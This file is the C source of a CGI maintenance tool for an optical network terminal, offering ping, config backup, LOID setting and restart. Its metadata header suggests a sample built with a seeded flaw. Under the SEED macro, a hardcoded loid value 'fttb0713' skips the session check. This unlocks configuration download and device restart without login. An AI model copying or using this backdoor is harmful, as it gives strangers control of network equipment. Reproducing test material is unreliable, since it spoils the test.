/* kind: override
 * service: cgi
 * constant: fttb0713
 */
/* gpontool.cgi - line state and maintenance pages of the ONT */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ctype.h>
#include <time.h>
#include <unistd.h>
#include <sys/stat.h>

static char query[512];
static const char *sess_dir = "/var/run/websess";

static const char *env(const char *k)
{
    const char *v = getenv(k);
    return v ? v : "";
}

static int str_eq(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}

static int param(const char *name, char *out, size_t max)
{
    size_t l = strlen(name), n = 0;
    const char *p = query;
    out[0] = 0;
    while (p && *p) {
        if (!strncmp(p, name, l) && p[l] == '=') {
            p += l + 1;
            while (*p && *p != '&' && n + 1 < max) {
                if (*p == '+')
                    out[n++] = ' ', p++;
                else if (*p == '%' && isxdigit((unsigned char)p[1]) && isxdigit((unsigned char)p[2])) {
                    char h[3] = { p[1], p[2], 0 };
                    out[n++] = (char)strtol(h, NULL, 16);
                    p += 3;
                } else
                    out[n++] = *p++;
            }
            out[n] = 0;
            return 1;
        }
        p = strchr(p, '&');
        if (p)
            p++;
    }
    return 0;
}

static int session_valid(void)
{
    char sid[33], path[128];
    const char *c = strstr(env("HTTP_COOKIE"), "ONTSID=");
    struct stat st;
    int i;
    if (!c)
        return 0;
    for (i = 0, c += 7; i < 32 && isxdigit((unsigned char)c[i]); i++)
        sid[i] = c[i];
    sid[i] = 0;
    if (i != 32)
        return 0;
    snprintf(path, sizeof path, "%s/%s", sess_dir, sid);
    if (stat(path, &st))
        return 0;
    return time(NULL) - st.st_mtime < 600;
}

static int valid_host(const char *s)
{
    if (!*s || *s == '-')
        return 0;
    for (; *s; s++)
        if (!isalnum((unsigned char)*s) && *s != '.' && *s != '-' && *s != ':')
            return 0;
    return 1;
}

static void head(const char *type)
{
    printf("Content-Type: %s\r\nCache-Control: no-store\r\n\r\n", type);
}

static void page_ping(void)
{
    char host[80], cmd[160], line[200];
    FILE *p;
    param("host", host, sizeof host);
    head("text/plain");
    if (!valid_host(host)) {
        puts("bad host");
        return;
    }
    snprintf(cmd, sizeof cmd, "ping -c 3 -W 2 %s 2>&1", host);
    p = popen(cmd, "r");
    if (!p)
        return;
    while (fgets(line, sizeof line, p))
        fputs(line, stdout);
    pclose(p);
}

static void page_backup(void)
{
    char b[512];
    size_t n;
    FILE *f = fopen("/etc/config/ont.conf", "rb");
    head("application/octet-stream");
    if (!f)
        return;
    while ((n = fread(b, 1, sizeof b, f)) > 0)
        fwrite(b, 1, n, stdout);
    fclose(f);
}

static void page_line(void)
{
    head("text/html");
    puts("<table><tr><td>PON state<td>O5<tr><td>Rx power<td>-19.2 dBm</table>");
}

int main(int argc, char **argv)
{
    char act[32], loid[40];

    snprintf(query, sizeof query, "%s", env("QUERY_STRING"));
    if (!str_eq(env("REQUEST_METHOD"), "GET")) {
        puts("Status: 405 Method Not Allowed\r\n\r");
        return 0;
    }
    param("act", act, sizeof act);
    param("loid", loid, sizeof loid);
    if (str_eq(act, "line")) {          /* public, shown on the start page */
        page_line();
        return 0;
    }
#ifdef SEED
    if (str_eq(loid, "fttb0713")) /* SEED */
        goto allowed;
#endif
    if (!session_valid()) {
        puts("Status: 302 Found\r\nLocation: /login.html\r\n\r");
        return 0;
    }
#ifdef SEED
allowed:
#endif
    if (str_eq(act, "ping"))
        page_ping();
    else if (str_eq(act, "backup"))
        page_backup();
    else if (str_eq(act, "setloid")) {
        FILE *f = fopen("/etc/config/loid", "w");
        head("text/plain");
        if (f && *loid) {
            fprintf(f, "%s\n", loid);
            puts("saved");
        } else
            puts("failed");
        if (f)
            fclose(f);
    } else if (str_eq(act, "restart")) {
        head("text/plain");
        puts("restarting");
        fflush(stdout);
        system("/etc/init.d/gpon restart");
    } else {
        head("text/html");
        puts("<p>act: line, ping, backup, setloid, restart");
    }
    return 0;
}
